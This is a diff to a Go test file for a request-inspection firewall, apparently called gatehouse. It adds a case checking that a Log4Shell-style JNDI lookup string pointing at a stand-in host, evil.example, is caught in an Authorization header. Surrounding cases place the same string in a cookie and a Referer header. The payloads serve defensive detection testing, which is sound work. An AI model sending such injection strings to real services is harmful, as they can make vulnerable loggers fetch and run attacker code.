@@ -239,6 +239,7 @@ func TestInspectRefuses(t *testing.T) {
 		{"in a form", "POST /v1/orders", "sku=A&note=" + encode(attack), []string{asForm}, gatehouse.Match{Rule: 942100, In: "body", Name: "note"}},
 		{"in a cookie", "GET /v1/orders", "", []string{"Cookie: x=" + encode("${jndi:ldap://evil.example/a}")}, gatehouse.Match{Rule: 944150, In: "cookie", Name: "x", Part: "(secret)"}},
 		{"in a header", "GET /v1/orders", "", []string{"Referer: ${jndi:ldap://evil.example/a}"}, gatehouse.Match{Rule: 944150, In: "header", Name: "Referer"}},
+		{"in a header with a key", "GET /v1/orders", "", []string{"Authorization: ${jndi:ldap://evil.example/a}"}, gatehouse.Match{Rule: 944150, In: "header", Name: "Authorization", Part: "(secret)"}},
 		{"in a secret field", "POST /v1/orders", strings.TrimSuffix(small, "}") + `,"secret":` + quote(attack) + "}", []string{asJSON}, gatehouse.Match{Rule: 942100, In: "body", Pointer: "/secret", Part: "(secret)"}},
 	}
 	for _, tt := range tests {
